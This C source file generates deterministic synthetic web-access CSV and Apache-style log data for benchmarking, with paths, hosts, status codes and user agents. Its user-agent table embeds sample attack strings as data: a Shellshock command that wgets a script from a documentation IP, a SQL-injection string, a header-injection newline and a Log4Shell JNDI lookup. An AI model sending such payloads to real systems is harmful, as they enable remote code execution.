/*
 * gen.c - deterministic generator of web-access data for tally's benchmarks.
 *
 *     cc -O2 -o gen bench/gen.c -lm
 *     gen csv ROWS [SEED]    CSV with a header and ROWS records
 *     gen log ROWS [SEED]    ROWS lines of Apache/nginx combined log format
 *
 * The same seed gives the same bytes on every machine: the PRNG is
 * xoshiro256** seeded by splitmix64, every draw is integer arithmetic and
 * every number in the hot loop is formatted by hand (decimals are integers
 * with the point printed by hand). The path set, the client pool and the
 * per-path sizes and latencies are fixed (independent of the seed); the
 * seed drives the row draws.
 *
 * Shape of the data (see bench/README.md):
 * - time: from 2026-03-14T09:26:53Z, about 3 rows per second; CSV in UTC
 *   (`+00:00`), the log in local time `-0700`.
 * - host: 50 hosts web-01..web-50.example.com, mildly skewed.
 * - path: exactly 2,000 distinct paths, Zipf-like (weight 1/(rank+10));
 *   30% of the paths (and about 30% of the rows) start with /api/; a few
 *   rare paths contain a comma (so they are quoted in CSV).
 * - status: mostly 200; about 3% >= 500 (more on /api/).
 * - bytes: `-` in 1% of CSV rows; in the log `-` for an empty body (as %b).
 * - latency_ms: long-tailed, up to 3 decimals.
 * - user_agent: 10% contain a comma, 1% a double quote, 0.1% a newline;
 *   1% are empty.
 * - log only: 2% IPv6 clients, a user name on 3% of lines, referers,
 *   0.1% requests that are not METHOD PATH PROTO (408 "-", TLS garbage...).
 */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---------------------------------------------------------------- output */

#define OUT_SIZE (4u << 20)
#define ROW_MAX 4096u /* no row is longer than this */

static char g_out[OUT_SIZE];
static size_t g_len;

static void
out_flush(void)
{
    if (g_len > 0 && fwrite(g_out, 1, g_len, stdout) != g_len) {
        fprintf(stderr, "gen: write error: %s\n", strerror(errno));
        exit(1);
    }
    g_len = 0;
}

static void
out_room(void)
{
    if (g_len > OUT_SIZE - ROW_MAX)
        out_flush();
}

static void
put(const char *s, size_t n)
{
    memcpy(g_out + g_len, s, n);
    g_len += n;
}

static void
put_ch(char c)
{
    g_out[g_len++] = c;
}

static void
put_u64(uint64_t v)
{
    char tmp[20];
    size_t i = sizeof tmp;
    do {
        tmp[--i] = (char)('0' + v % 10);
        v /= 10;
    } while (v != 0);
    put(tmp + i, sizeof tmp - i);
}

static void
put_2d(unsigned v)
{
    put_ch((char)('0' + v / 10));
    put_ch((char)('0' + v % 10));
}

/* Microseconds as milliseconds with up to 3 decimals, trailing zeros cut. */
static void
put_ms(uint64_t us)
{
    unsigned frac = (unsigned)(us % 1000);
    put_u64(us / 1000);
    if (frac == 0)
        return;
    put_ch('.');
    put_ch((char)('0' + frac / 100));
    frac %= 100;
    if (frac == 0)
        return;
    put_ch((char)('0' + frac / 10));
    frac %= 10;
    if (frac == 0)
        return;
    put_ch((char)('0' + frac));
}

/* ------------------------------------------------------------------ rng */

struct rng {
    uint64_t s[4];
};

static uint64_t
splitmix64(uint64_t *x)
{
    uint64_t z = (*x += 0x9e3779b97f4a7c15u);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9u;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebu;
    return z ^ (z >> 31);
}

static uint64_t
rotl(uint64_t x, int k)
{
    return (x << k) | (x >> (64 - k));
}

static void
rng_seed(struct rng *r, uint64_t seed)
{
    uint64_t x = seed;
    for (int i = 0; i < 4; i++)
        r->s[i] = splitmix64(&x);
}

/* xoshiro256** */
static uint64_t
rng_next(struct rng *r)
{
    uint64_t *s = r->s;
    uint64_t result = rotl(s[1] * 5, 7) * 9;
    uint64_t t = s[1] << 17;
    s[2] ^= s[0];
    s[3] ^= s[1];
    s[1] ^= s[2];
    s[0] ^= s[3];
    s[2] ^= t;
    s[3] = rotl(s[3], 45);
    return result;
}

/* Uniform in [0, n), n < 2^32 (multiply-shift; the bias is < 2^-32). */
static uint32_t
rng_below(struct rng *r, uint32_t n)
{
    return (uint32_t)(((rng_next(r) >> 32) * (uint64_t)n) >> 32);
}

/* A fixed hash of an index, for attributes that do not depend on the seed. */
static uint64_t
fixed_hash(uint64_t i, uint64_t salt)
{
    uint64_t x = i * 0x100000001b3u + salt;
    return splitmix64(&x);
}

/* ------------------------------------------------------- weighted tables */

struct wtab {
    uint32_t n;
    uint32_t total;
    uint32_t *cum; /* owned: cum[i] = w[0] + ... + w[i] */
};

static void *
xmalloc(size_t n)
{
    void *p = malloc(n);
    if (p == NULL) {
        fprintf(stderr, "gen: out of memory\n");
        exit(1);
    }
    return p;
}

static void
wtab_init(struct wtab *t, const uint32_t *w, uint32_t n)
{
    uint64_t sum = 0;
    t->n = n;
    t->cum = xmalloc(n * sizeof *t->cum);
    for (uint32_t i = 0; i < n; i++) {
        sum += w[i];
        t->cum[i] = (uint32_t)sum;
    }
    if (sum == 0 || sum > UINT32_MAX) {
        fprintf(stderr, "gen: bad weight table\n");
        exit(1);
    }
    t->total = (uint32_t)sum;
}

/* Zipf-like weights scale/(i + q), i = 0..n-1. */
static void
wtab_zipf(struct wtab *t, uint32_t n, uint32_t q, uint32_t scale)
{
    uint32_t *w = xmalloc(n * sizeof *w);
    for (uint32_t i = 0; i < n; i++)
        w[i] = scale / (i + q);
    wtab_init(t, w, n);
    free(w);
}

static uint32_t
wtab_pick(const struct wtab *t, struct rng *r)
{
    uint32_t x = rng_below(r, t->total);
    uint32_t lo = 0, hi = t->n - 1;
    while (lo < hi) {
        uint32_t mid = lo + (hi - lo) / 2;
        if (t->cum[mid] > x)
            hi = mid;
        else
            lo = mid + 1;
    }
    return lo;
}

/* --------------------------------------------------------------- strings */

struct str {
    char *p; /* owned */
    uint32_t n;
};

static struct str
str_dup(const char *s)
{
    struct str r;
    r.n = (uint32_t)strlen(s);
    r.p = xmalloc(r.n + 1);
    memcpy(r.p, s, r.n + 1);
    return r;
}

/* RFC 4180: quote when the value holds , " CR or LF; double the quotes. */
static struct str
csv_escape(const char *s)
{
    if (strpbrk(s, ",\"\r\n") == NULL)
        return str_dup(s);
    size_t n = strlen(s);
    char *buf = xmalloc(2 * n + 3);
    size_t k = 0;
    buf[k++] = '"';
    for (size_t i = 0; i < n; i++) {
        if (s[i] == '"')
            buf[k++] = '"';
        buf[k++] = s[i];
    }
    buf[k++] = '"';
    buf[k] = '\0';
    struct str r = str_dup(buf);
    free(buf);
    return r;
}

/* Apache's escaping inside a quoted log field: \" \\ \n \r; empty is "-". */
static struct str
log_escape(const char *s)
{
    if (*s == '\0')
        return str_dup("-");
    size_t n = strlen(s);
    char *buf = xmalloc(2 * n + 1);
    size_t k = 0;
    for (size_t i = 0; i < n; i++) {
        char c = s[i];
        if (c == '"' || c == '\\') {
            buf[k++] = '\\';
            buf[k++] = c;
        } else if (c == '\n' || c == '\r') {
            buf[k++] = '\\';
            buf[k++] = c == '\n' ? 'n' : 'r';
        } else {
            buf[k++] = c;
        }
    }
    buf[k] = '\0';
    struct str r = str_dup(buf);
    free(buf);
    return r;
}

/* ----------------------------------------------------------------- paths */

#define NPATHS 2000u

enum path_kind { PATH_STATIC, PATH_PAGE, PATH_API };

struct path {
    struct str raw;
    struct str csv;
    enum path_kind kind;
    uint32_t bytes;      /* typical body size of a 200 */
    uint32_t latency_us; /* typical latency */
};

static struct path g_paths[NPATHS];

static const char *const api_head[] = {
    "/api/v1/health",  "/api/v1/session",      "/api/v2/search",          "/api/v1/users/me",
    "/api/v1/cart",    "/api/v1/products",     "/api/v2/recommendations", "/api/v1/notifications",
    "/api/v1/orders",  "/api/v1/auth/refresh", "/api/v1/config",          "/api/v2/feed",
    "/api/v1/metrics", "/api/v1/events",       "/api/v1/checkout",
};

static const char *const web_head[] = {
    "/",
    "/index.html",
    "/favicon.ico",
    "/static/js/app.3f9a1c2e.js",
    "/static/css/main.8b2e4d71.css",
    "/robots.txt",
    "/login",
    "/static/js/vendor.71c0de55.js",
    "/search",
    "/products",
    "/static/img/logo.svg",
    "/cart",
    "/about",
    "/checkout",
    "/blog",
    "/sitemap.xml",
    "/static/fonts/inter-var.woff2",
    "/contact",
    "/pricing",
    "/docs",
    "/.well-known/security.txt",
    "/apple-touch-icon.png",
    "/manifest.json",
    "/signup",
    "/static/img/hero-2026.webp",
    "/terms",
    "/privacy",
    "/wp-login.php",
    "/.env",
    "/careers",
};

static const char *const words[] = {
    "spring", "sale",   "guide",   "intro",  "release", "notes",  "pricing", "faq",
    "update", "review", "setup",   "tips",   "news",    "howto",  "team",    "careers",
    "shoes",  "jacket", "laptop",  "phone",  "garden",  "coffee", "books",   "audio",
    "camera", "travel", "fitness", "office", "kitchen", "toys",   "outdoor", "gaming",
};
#define NWORDS (sizeof words / sizeof words[0])

static const char *const sorts[] = {"relevance", "price", "newest", "rating"};

static int
is_api_rank(uint32_t i)
{
    uint32_t m = i % 10;
    return m == 1 || m == 4 || m == 7;
}

static enum path_kind
make_web_path(char *buf, size_t size, uint32_t i, uint32_t k)
{
    uint64_t h = fixed_hash(i, 0x7061746873u);
    const char *w1 = words[h % NWORDS];
    const char *w2 = words[(h >> 8) % NWORDS];
    if (k < sizeof web_head / sizeof web_head[0]) {
        const char *p = web_head[k];
        snprintf(buf, size, "%s", p);
        return strncmp(p, "/static/", 8) == 0 || strstr(p, ".ico") || strstr(p, ".png") ||
                       strstr(p, ".txt") || strstr(p, ".xml") || strstr(p, ".json")
                   ? PATH_STATIC
                   : PATH_PAGE;
    }
    if (i % 173 == 60) {
        snprintf(buf, size, "/compare?ids=%u,%u", 1000 + i, 3000 + i * 3);
        return PATH_PAGE;
    }
    switch ((h >> 16) % 6) {
    case 0:
        snprintf(buf, size, "/static/js/chunk-%u.%06x.js", i, (unsigned)((h >> 24) & 0xffffff));
        return PATH_STATIC;
    case 1:
        snprintf(buf, size, "/static/img/products/%u-%s.jpg", 10000 + i * 7, w1);
        return PATH_STATIC;
    case 2:
        snprintf(buf, size, "/blog/%u/%s-%s-%u", 2019 + (unsigned)((h >> 40) % 8), w1, w2, i);
        return PATH_PAGE;
    case 3:
        snprintf(buf, size, "/products/%s/%u", w1, 50000 + i * 13);
        return PATH_PAGE;
    case 4:
        snprintf(buf, size, "/docs/v%u/%s/%s-%u.html", 1 + (unsigned)((h >> 40) % 3), w1, w2, i);
        return PATH_PAGE;
    default:
        snprintf(buf, size, "/search?q=%s+%s&page=%u", w1, w2, i);
        return PATH_PAGE;
    }
}

static void
make_api_path(char *buf, size_t size, uint32_t i, uint32_t k)
{
    uint64_t h = fixed_hash(i, 0x617069u);
    const char *w1 = words[h % NWORDS];
    if (k < sizeof api_head / sizeof api_head[0]) {
        snprintf(buf, size, "%s", api_head[k]);
        return;
    }
    if (i % 173 == 61) {
        snprintf(buf, size, "/api/v1/items?ids=%u,%u,%u", i, i + 17, i + 101);
        return;
    }
    switch ((h >> 16) % 5) {
    case 0:
        snprintf(buf, size, "/api/v1/users/%u", 100000 + i * 37);
        break;
    case 1:
        snprintf(buf, size, "/api/v1/orders/%u/items", 700000 + i * 11);
        break;
    case 2:
        snprintf(buf, size, "/api/v2/products/%u/reviews?limit=20", 50000 + i * 13);
        break;
    case 3:
        snprintf(buf, size, "/api/v1/search?q=%s&sort=%s&p=%u", w1, sorts[(h >> 32) % 4], i);
        break;
    default:
        snprintf(buf, size, "/api/v2/inventory/%s/%u", w1, 900 + i);
        break;
    }
}

static void
paths_init(void)
{
    char buf[256];
    uint32_t napi = 0, nweb = 0;
    for (uint32_t i = 0; i < NPATHS; i++) {
        struct path *p = &g_paths[i];
        uint64_t h = fixed_hash(i, 0x73697a65u);
        if (is_api_rank(i)) {
            make_api_path(buf, sizeof buf, i, napi++);
            p->kind = PATH_API;
        } else {
            p->kind = make_web_path(buf, sizeof buf, i, nweb++);
        }
        p->raw = str_dup(buf);
        p->csv = csv_escape(buf);
        switch (p->kind) {
        case PATH_STATIC:
            p->bytes = 1200 + (uint32_t)(h % 250000);
            p->latency_us = 300 + (uint32_t)((h >> 32) % 3000);
            break;
        case PATH_PAGE:
            p->bytes = 8000 + (uint32_t)(h % 60000);
            p->latency_us = 15000 + (uint32_t)((h >> 32) % 40000);
            break;
        case PATH_API:
            p->bytes = 90 + (uint32_t)(h % 8000);
            p->latency_us = 8000 + (uint32_t)((h >> 32) % 120000);
            break;
        }
    }
    /* The paths are distinct by construction; make sure of it. */
    for (uint32_t i = 0; i < NPATHS; i++)
        for (uint32_t j = i + 1; j < NPATHS; j++)
            if (g_paths[i].raw.n == g_paths[j].raw.n &&
                memcmp(g_paths[i].raw.p, g_paths[j].raw.p, g_paths[i].raw.n) == 0) {
                fprintf(stderr, "gen: duplicate path %s\n", g_paths[i].raw.p);
                exit(1);
            }
}

/* ----------------------------------------------------------- user agents */

struct weighted {
    const char *s;
    uint32_t w; /* per 100,000 rows */
};

/* 89.4% plain, 9.5% with a comma, 1% with a double quote (half with a
 * comma too), 0.1% with a newline. */
static const struct weighted agent_list[] = {
    /* plain */
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0", 11000},
    {"Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0", 5000},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:124.0) Gecko/20100101 Firefox/124.0", 4000},
    {"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 5000},
    {"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", 2500},
    {"curl/8.5.0", 7000},
    {"curl/7.88.1", 3000},
    {"python-requests/2.31.0", 6000},
    {"Go-http-client/1.1", 5000},
    {"Go-http-client/2.0", 2000},
    {"kube-probe/1.29", 8000},
    {"ELB-HealthChecker/2.0", 6300},
    {"okhttp/4.12.0", 5000},
    {"Wget/1.21.4", 1500},
    {"Prometheus/2.51.0", 3000},
    {"Apache-HttpClient/4.5.14 (Java/17.0.10)", 2000},
    {"axios/1.6.8", 3000},
    {"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", 1500},
    {"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)", 1000},
    {"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", 1500},
    {"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", 500},
    {"Twitterbot/1.0", 300},
    {"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", 800},
    {"Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240305.019)", 1500},
    {"MyApp/3.14.2 (iPhone; iOS 17.4; Scale/3.00)", 2000},
    {"", 1000},
    /* with a comma */
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/123.0.0.0 Safari/537.36",
     3500},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/122.0.0.0 Safari/537.36",
     1500},
    {"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
     "Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
     1500},
    {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.65",
     800},
    {"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/123.0.0.0 Mobile Safari/537.36",
     1200},
    {"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Chrome/123.0.6312.86 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
     "+http://www.google.com/bot.html)",
     500},
    {"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.4 Safari/605.1.15",
     500},
    /* with a double quote */
    {"\"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"", 300},
    {"() { :; }; /bin/bash -c \"wget http://198.51.100.7/x.sh\"", 200},
    {"Mozilla/5.0' OR \"1\"=\"1\", sqlmap/1.8", 250},
    {"Mozilla/5.0 (KHTML, like Gecko) \"Scanner/2.0\"", 250},
    /* with a newline */
    {"Mozilla/5.0\nX-Forwarded-For: 127.0.0.1", 50},
    {"Mozilla/5.0 (compatible; scan)\nX-Api-Version: ${jndi:ldap://203.0.113.9/a}", 50},
};
#define NAGENTS (sizeof agent_list / sizeof agent_list[0])

static struct str g_agent_csv[NAGENTS];
static struct str g_agent_log[NAGENTS];

/* ------------------------------------------------------ small categorical */

static const struct weighted status_web[] = {
    {"200", 82200}, {"304", 7000}, {"301", 1500}, {"302", 1000}, {"404", 4500}, {"403", 500},
    {"400", 300},   {"206", 600},  {"500", 900},  {"502", 700},  {"503", 600},  {"504", 200},
};
static const struct weighted status_api[] = {
    {"200", 80000}, {"201", 4000}, {"204", 2000}, {"304", 500},  {"400", 2500},
    {"401", 2000},  {"403", 800},  {"404", 2500}, {"409", 300},  {"422", 600},
    {"429", 700},   {"500", 1800}, {"502", 1000}, {"503", 1000}, {"504", 300},
};
static const struct weighted method_web[] = {{"GET", 94000}, {"HEAD", 4000}, {"POST", 2000}};
static const struct weighted method_api[] = {
    {"GET", 70000},  {"POST", 20000}, {"PUT", 5000},    {"DELETE", 3000},
    {"PATCH", 1000}, {"HEAD", 500},   {"OPTIONS", 500},
};
static const struct weighted proto_list[] = {
    {"HTTP/1.1", 70000}, {"HTTP/2.0", 28000}, {"HTTP/1.0", 2000}};
static const struct weighted referer_list[] = {
    {"-", 45000},
    {"https://www.google.com/", 20000},
    {"https://www.bing.com/", 3000},
    {"https://duckduckgo.com/", 2000},
    {"https://t.co/Ab3xYz9QkE", 1000},
    {"android-app://com.google.android.gm/", 1000},
    {NULL, 28000}, /* https://www.example.com + a path */
};
static const char *const log_users[] = {"alice", "bob", "carol", "deploy", "admin"};

struct cat {
    const struct weighted *items;
    struct wtab tab;
};

static void
cat_init(struct cat *c, const struct weighted *items, uint32_t n)
{
    uint32_t w[64];
    for (uint32_t i = 0; i < n; i++)
        w[i] = items[i].w;
    c->items = items;
    wtab_init(&c->tab, w, n);
}

#define CAT_INIT(c, arr) cat_init((c), (arr), (uint32_t)(sizeof(arr) / sizeof((arr)[0])))

static struct cat g_status_web, g_status_api, g_method_web, g_method_api, g_proto, g_referer;
static struct wtab g_agent_tab, g_path_tab, g_host_tab, g_client_tab;

/* ----------------------------------------------------------------- hosts */

#define NHOSTS 50u
static struct str g_hosts[NHOSTS];

/* --------------------------------------------------------------- clients */

#define NCLIENTS 20000u
static struct str g_clients[NCLIENTS];

static void
clients_init(void)
{
    char buf[64];
    for (uint32_t i = 0; i < NCLIENTS; i++) {
        uint64_t h = fixed_hash(i, 0x6970u);
        if (h % 50 == 0) { /* 2% IPv6 */
            snprintf(buf, sizeof buf, "2001:db8:%x:%x::%x", (unsigned)((h >> 8) & 0xffff),
                     (unsigned)((h >> 24) & 0xffff), (unsigned)((h >> 40) & 0xfff) + 1);
        } else {
            unsigned a = 1 + (unsigned)((h >> 8) % 223);
            if (a == 10 || a == 127)
                a++;
            snprintf(buf, sizeof buf, "%u.%u.%u.%u", a, (unsigned)((h >> 16) & 0xff),
                     (unsigned)((h >> 24) & 0xff), 1 + (unsigned)((h >> 32) % 254));
        }
        g_clients[i] = str_dup(buf);
    }
}

/* ------------------------------------------------------------------ time */

static const char *const months[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                     "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

/* Howard Hinnant's days_from_civil / civil_from_days. */
static int64_t
days_from_civil(int64_t y, unsigned m, unsigned d)
{
    y -= m <= 2;
    int64_t era = (y >= 0 ? y : y - 399) / 400;
    unsigned yoe = (unsigned)(y - era * 400);
    unsigned doy = (153 * (m > 2 ? m - 3 : m + 9) + 2) / 5 + d - 1;
    unsigned doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    return era * 146097 + (int64_t)doe - 719468;
}

static void
civil_from_days(int64_t z, unsigned *y, unsigned *m, unsigned *d)
{
    z += 719468;
    int64_t era = (z >= 0 ? z : z - 146096) / 146097;
    unsigned doe = (unsigned)(z - era * 146097);
    unsigned yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
    int64_t yy = (int64_t)yoe + era * 400;
    unsigned doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    unsigned mp = (5 * doy + 2) / 153;
    *d = doy - (153 * mp + 2) / 5 + 1;
    *m = mp < 10 ? mp + 3 : mp - 9;
    *y = (unsigned)(yy + (*m <= 2));
}

struct clock {
    int64_t t;         /* UTC epoch seconds */
    int64_t offset;    /* seconds east of UTC */
    int64_t day;       /* cached local day number, or INT64_MIN */
    char date_iso[10]; /* 2026-03-14 */
    char date_clf[11]; /* 14/Mar/2026 */
};

static void
clock_day(struct clock *c, int64_t day)
{
    unsigned y, m, d;
    civil_from_days(day, &y, &m, &d);
    char *s = c->date_iso;
    s[0] = (char)('0' + y / 1000);
    s[1] = (char)('0' + y / 100 % 10);
    s[2] = (char)('0' + y / 10 % 10);
    s[3] = (char)('0' + y % 10);
    s[4] = '-';
    s[5] = (char)('0' + m / 10);
    s[6] = (char)('0' + m % 10);
    s[7] = '-';
    s[8] = (char)('0' + d / 10);
    s[9] = (char)('0' + d % 10);
    s = c->date_clf;
    s[0] = (char)('0' + d / 10);
    s[1] = (char)('0' + d % 10);
    s[2] = '/';
    memcpy(s + 3, months[m - 1], 3);
    s[6] = '/';
    memcpy(s + 7, c->date_iso, 4);
    c->day = day;
}

/* Advance the clock: about 3 rows per second. */
static void
clock_tick(struct clock *c, struct rng *r)
{
    uint32_t u = rng_below(r, 100);
    if (u < 75)
        return;
    if (u < 97)
        c->t += 1;
    else
        c->t += 2 + rng_below(r, 4);
}

/* Local day and second of the day. */
static unsigned
clock_local(struct clock *c)
{
    int64_t local = c->t + c->offset;
    int64_t day = local / 86400; /* times are after 1970 */
    if (day != c->day)
        clock_day(c, day);
    return (unsigned)(local % 86400);
}

static void
put_hms(unsigned sod)
{
    put_2d(sod / 3600);
    put_ch(':');
    put_2d(sod / 60 % 60);
    put_ch(':');
    put_2d(sod % 60);
}

/* ------------------------------------------------------------ one request */

struct req {
    const struct path *path;
    const char *method;
    const char *status;
    uint64_t bytes;
    uint64_t latency_us;
    uint32_t agent;
};

static void
draw_request(struct req *q, struct rng *r)
{
    const struct path *p = &g_paths[wtab_pick(&g_path_tab, r)];
    int api = p->kind == PATH_API;
    const struct cat *mc = api ? &g_method_api : &g_method_web;
    const struct cat *sc = api ? &g_status_api : &g_status_web;
    q->path = p;
    q->method = mc->items[wtab_pick(&mc->tab, r)].s;
    q->status = sc->items[wtab_pick(&sc->tab, r)].s;
    q->agent = wtab_pick(&g_agent_tab, r);

    /* long-tailed multiplier, per mille */
    uint32_t u = rng_below(r, 1000000);
    uint64_t mult;
    if (u < 900000)
        mult = 500 + rng_below(r, 1000);
    else if (u < 990000)
        mult = 1500 + rng_below(r, 3500);
    else if (u < 999000)
        mult = 5000 + rng_below(r, 45000);
    else
        mult = 50000 + rng_below(r, 450000);
    uint64_t lat = (uint64_t)p->latency_us * mult / 1000;

    uint64_t bytes;
    const char *st = q->status;
    switch (st[0]) {
    case '2':
        if (st[2] == '4') /* 204 */
            bytes = 0;
        else if (st[2] == '6') /* 206 */
            bytes = 1 + rng_below(r, p->bytes);
        else if (p->kind == PATH_STATIC)
            bytes = p->bytes;
        else if (p->kind == PATH_PAGE)
            bytes = (uint64_t)p->bytes * (900 + rng_below(r, 200)) / 1000;
        else
            bytes = (uint64_t)p->bytes * (500 + rng_below(r, 1500)) / 1000;
        break;
    case '3':
        if (st[2] == '4') { /* 304 */
            bytes = 0;
            lat /= 4;
        } else {
            bytes = 162 + rng_below(r, 80);
            lat = 300 + rng_below(r, 2000);
        }
        break;
    case '4':
        bytes = 100 + rng_below(r, 500);
        lat = lat / 3 + rng_below(r, 3000);
        break;
    default:
        bytes = 150 + rng_below(r, 400);
        if (st[2] == '2') /* 502: upstream refused */
            lat = 1000 + rng_below(r, 4000);
        else if (st[2] == '3') /* 503: shed */
            lat = 200 + rng_below(r, 1800);
        else if (st[2] == '4') /* 504: timeout */
            lat = 30000000 + rng_below(r, 2000000);
        break;
    }
    if (q->method[0] == 'H') /* HEAD */
        bytes = 0;
    q->bytes = bytes;
    q->latency_us = lat < 50 ? 50 + lat : lat;
}

/* ------------------------------------------------------------------- csv */

static void
gen_csv(uint64_t rows, struct rng *r)
{
    static const char header[] = "time,host,method,path,status,bytes,latency_ms,user_agent\n";
    struct clock c = {0};
    c.t = days_from_civil(2026, 3, 14) * 86400 + 9 * 3600 + 26 * 60 + 53;
    c.offset = 0;
    c.day = INT64_MIN;
    put(header, sizeof header - 1);
    for (uint64_t i = 0; i < rows; i++) {
        struct req q;
        out_room();
        clock_tick(&c, r);
        unsigned sod = clock_local(&c);
        const struct str *host = &g_hosts[wtab_pick(&g_host_tab, r)];
        draw_request(&q, r);

        put(c.date_iso, 10);
        put_ch('T');
        put_hms(sod);
        put("+00:00,", 7);
        put(host->p, host->n);
        put_ch(',');
        put(q.method, strlen(q.method));
        put_ch(',');
        put(q.path->csv.p, q.path->csv.n);
        put_ch(',');
        put(q.status, 3);
        put_ch(',');
        if (rng_below(r, 100) == 0)
            put_ch('-');
        else
            put_u64(q.bytes);
        put_ch(',');
        put_ms(q.latency_us);
        put_ch(',');
        put(g_agent_csv[q.agent].p, g_agent_csv[q.agent].n);
        put_ch('\n');
    }
}

/* ------------------------------------------------------------------- log */

static void
gen_log(uint64_t rows, struct rng *r)
{
    struct clock c = {0};
    c.t = days_from_civil(2026, 3, 14) * 86400 + 9 * 3600 + 26 * 60 + 53;
    c.offset = -7 * 3600;
    c.day = INT64_MIN;
    for (uint64_t i = 0; i < rows; i++) {
        struct req q;
        out_room();
        clock_tick(&c, r);
        unsigned sod = clock_local(&c);
        const struct str *ip = &g_clients[wtab_pick(&g_client_tab, r)];
        draw_request(&q, r);

        put(ip->p, ip->n);
        put(" - ", 3);
        if (rng_below(r, 100) < 3) {
            const char *u = log_users[rng_below(r, 5)];
            put(u, strlen(u));
        } else {
            put_ch('-');
        }
        put(" [", 2);
        put(c.date_clf, 11);
        put_ch(':');
        put_hms(sod);
        put(" -0700] \"", 9);

        const char *status = q.status;
        uint64_t bytes = q.bytes;
        if (rng_below(r, 1000) == 0) { /* not METHOD PATH PROTO */
            uint32_t k = rng_below(r, 20);
            if (k < 12) {
                put_ch('-');
                status = "408";
                bytes = 0;
            } else if (k < 17) {
                static const char tls[] = "\\x16\\x03\\x01\\x00\\xa5\\x01\\x00\\x00\\xa1\\x03\\x03";
                put(tls, sizeof tls - 1);
                status = "400";
                bytes = 226;
            } else {
                put("MGLNDD_203.0.113.5_443", 22);
                status = "400";
                bytes = 226;
            }
        } else {
            const char *proto = g_proto.items[wtab_pick(&g_proto.tab, r)].s;
            put(q.method, strlen(q.method));
            put_ch(' ');
            put(q.path->raw.p, q.path->raw.n);
            put_ch(' ');
            put(proto, 8);
        }
        put("\" ", 2);
        put(status, 3);
        put_ch(' ');
        if (bytes == 0)
            put_ch('-');
        else
            put_u64(bytes);
        put(" \"", 2);
        if (status[2] == '8') { /* a 408 timeout: no request, no headers */
            put("-\" \"-\"\n", 7);
            continue;
        }
        const char *ref = g_referer.items[wtab_pick(&g_referer.tab, r)].s;
        if (ref != NULL) {
            put(ref, strlen(ref));
        } else {
            const struct path *p = &g_paths[wtab_pick(&g_path_tab, r)];
            put("https://www.example.com", 23);
            put(p->raw.p, p->raw.n);
        }
        put("\" \"", 3);
        put(g_agent_log[q.agent].p, g_agent_log[q.agent].n);
        put("\"\n", 2);
    }
}

/* ------------------------------------------------------------------ main */

static int
parse_u64(const char *s, uint64_t *out)
{
    char *end;
    if (*s < '0' || *s > '9')
        return -1;
    errno = 0;
    unsigned long long v = strtoull(s, &end, 10);
    if (errno != 0 || *end != '\0')
        return -1;
    *out = (uint64_t)v;
    return 0;
}

static void
usage(void)
{
    fprintf(stderr, "usage: gen csv|log ROWS [SEED]   (SEED defaults to 42)\n");
    exit(2);
}

static void
tables_init(void)
{
    char buf[64];
    uint32_t w[NAGENTS];

    paths_init();
    clients_init();
    for (uint32_t i = 0; i < NHOSTS; i++) {
        snprintf(buf, sizeof buf, "web-%02u.example.com", i + 1);
        g_hosts[i] = str_dup(buf);
    }
    for (uint32_t i = 0; i < NAGENTS; i++) {
        g_agent_csv[i] = csv_escape(agent_list[i].s);
        g_agent_log[i] = log_escape(agent_list[i].s);
        w[i] = agent_list[i].w;
    }
    wtab_init(&g_agent_tab, w, NAGENTS);
    wtab_zipf(&g_path_tab, NPATHS, 10, 1u << 28);
    wtab_zipf(&g_host_tab, NHOSTS, 20, 1u << 28);
    wtab_zipf(&g_client_tab, NCLIENTS, 5, 1u << 28);
    CAT_INIT(&g_status_web, status_web);
    CAT_INIT(&g_status_api, status_api);
    CAT_INIT(&g_method_web, method_web);
    CAT_INIT(&g_method_api, method_api);
    CAT_INIT(&g_proto, proto_list);
    CAT_INIT(&g_referer, referer_list);
}

int
main(int argc, char **argv)
{
    uint64_t rows, seed = 42;
    struct rng r;

    if (argc < 3 || argc > 4)
        usage();
    if (parse_u64(argv[2], &rows) != 0)
        usage();
    if (argc == 4 && parse_u64(argv[3], &seed) != 0)
        usage();
    int is_csv = strcmp(argv[1], "csv") == 0;
    if (!is_csv && strcmp(argv[1], "log") != 0)
        usage();

    tables_init();
    rng_seed(&r, seed);
    if (is_csv)
        gen_csv(rows, &r);
    else
        gen_log(rows, &r);
